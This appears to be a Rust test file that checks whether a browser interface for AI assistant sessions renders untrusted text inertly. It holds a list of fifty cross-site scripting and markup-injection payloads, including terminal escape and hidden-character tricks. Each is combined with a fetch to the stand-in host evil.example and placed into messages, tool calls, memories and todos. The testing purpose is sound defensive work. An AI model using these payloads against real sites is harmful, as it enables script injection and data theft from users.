//! Texts of strangers: whatever stands in a message, a memory or a title is shown as text, and asks nobody.

use serde_json::{Value, json};

use crate::browser::look;
use crate::world::{World, topic};

/// What a payload would do if it ran: leave a mark, and tell somebody.
const DEED: &str = "window.bethinkRan=1;fetch('https://evil.example/ran')";

/// Ways in which markup, links and addresses were made to run in pages that show Markdown. `DEED` stands for the
/// deed.
const WAYS: [&str; 50] = [
    "<script>DEED</script>",
    "<img src=x onerror=\"DEED\">",
    "<svg onload=\"DEED\">",
    "<svg><animate onbegin=\"DEED\" attributeName=x dur=1s>",
    "<svg><use href=\"https://evil.example/x.svg#a\">",
    "<iframe src=\"javascript:DEED\"></iframe>",
    "<iframe srcdoc=\"<script>DEED</script>\"></iframe>",
    "<object data=\"https://evil.example/x\"></object>",
    "<embed src=\"https://evil.example/x\">",
    "<video><source onerror=\"DEED\"></video>",
    "<audio src=https://evil.example/x autoplay>",
    "<details open ontoggle=\"DEED\">x</details>",
    "<input autofocus onfocus=\"DEED\">",
    "<marquee onstart=\"DEED\">x</marquee>",
    "<body onload=\"DEED\">",
    "<form action=https://evil.example/><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href=\"javascript:DEED\">click</a>",
    "\"><img src=x onerror=\"DEED\">",
    "'-DEED-'",
    "</title><script>DEED</script>",
    "</textarea></select><script>DEED</script>",
    "<!--><script>DEED</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=DEED>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"DEED\">",
    "<template><script>DEED</script></template>",
    "<scr<script>ipt>DEED</scr</script>ipt>",
    "&lt;script&gt;DEED&lt;/script&gt;",
    "%3Cscript%3EDEED%3C/script%3E",
    "{{constructor.constructor('DEED')()}}",
    "${DEED}",
    "__proto__",
    "[click](javascript:DEED)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:DEED)",
    "[click](\u{1}javascript:DEED)",
    "[click](https://evil.example/?secret=1)",
    "<javascript:DEED>",
    "<https://evil.example/>",
    "https://evil.example/bare",
    "![a picture](https://evil.example/pixel.png)",
    "![a picture](//evil.example/pixel.png)",
    "![](data:image/svg+xml,<svg onload=DEED>)",
    "[a]: javascript:DEED",
    "\u{202e}txet desrever\u{2066}",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[3J\u{9b}31m",
    "zero\u{200b}width\u{feff}and tags \u{e0041}\u{e0042}",
];

/// Where in a Markdown text a payload may stand.
const PLACES: [&str; 4] =
    ["HERE", "**HERE** and `HERE`", "| a |\n|---|\n| HERE |", "- [HERE](x.md)\n> # HERE"];

fn payloads() -> Vec<String> {
    let ways = WAYS.iter().map(|way| way.replace("DEED", DEED));
    ways.flat_map(|way| PLACES.map(|place| place.replace("HERE", &way))).collect()
}

#[test]
fn no_text_of_a_stranger_runs_or_asks_anybody() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let mut world = World::new();
    let session = fill_session(&mut world, &payloads);
    for (n, payload) in payloads.iter().enumerate().step_by(7) {
        world.session(payload.lines().next().unwrap());
        let description = serde_json::to_string(payload).unwrap();
        world.remember(
            "private",
            &format!("m{n}"),
            &topic(&format!("m{n}"), &description, payload),
        );
    }
    let all = payloads.join("\n\n");
    world.remember("private", "all", &topic("all", "everything at once", &all));
    // Hidden characters never get so far as a proposal.
    let plain: Vec<_> =
        payloads.iter().filter(|p| p.is_ascii() && !p.contains(['\u{1}', '\u{1b}'])).collect();
    // Proposals with the same meaning are not made twice.
    let subjects = [
        "Anchor chains rust slowly",
        "Harbour cranes lift boxes",
        "Lanterns burn whale oil",
        "Ropes shrink when wet",
        "Sails tear near seams",
        "Tides follow every moon",
        "Piers need oak planks",
        "Fog hides small boats",
    ];
    for ((n, payload), subject) in plain.iter().enumerate().step_by(20).zip(subjects) {
        world.propose(&format!("p{n}"), &topic(&format!("p{n}"), subject, payload));
    }
    let todos: Vec<_> = payloads
        .iter()
        .take(40)
        .enumerate()
        .map(|(n, payload)| json!({"id": n.to_string(), "content": payload, "status": "pending"}))
        .collect();
    world.put_todos(&session, &json!(todos));
    let compaction = world.compact(&session);
    look("hostile", &world, &json!({ "session": session, "compaction": compaction }));
}

/// A session whose every text is a payload.
fn fill_session(world: &mut World, payloads: &[String]) -> String {
    let session = world.session("<img src=x onerror=alert(1)>");
    let patch = json!({"tags": ["<svg onload=alert(1)>"]});
    world.http.patch(&format!("/v1/sessions/{session}"), &patch).ok();
    let messages: Vec<Value> =
        payloads.iter().enumerate().flat_map(|(n, text)| turn(n, text)).collect();
    for some in messages.chunks(100) {
        world.daemon.append(&session, some);
    }
    session
}

fn turn(n: usize, payload: &str) -> Vec<Value> {
    let id = format!("toolu_{n:05}");
    vec![
        json!({"role": "user", "content": payload}),
        json!({"role": "assistant", "content": [
            {"type": "text", "text": payload},
            {"type": "tool_use", "id": id, "name": "Read", "input": {"command": payload, "<b>": payload}}]}),
        json!({"role": "user", "content": [{"type": "tool_result", "tool_use_id": id, "content": payload}]}),
        json!({"role": "assistant", "content": payload}),
    ]
}
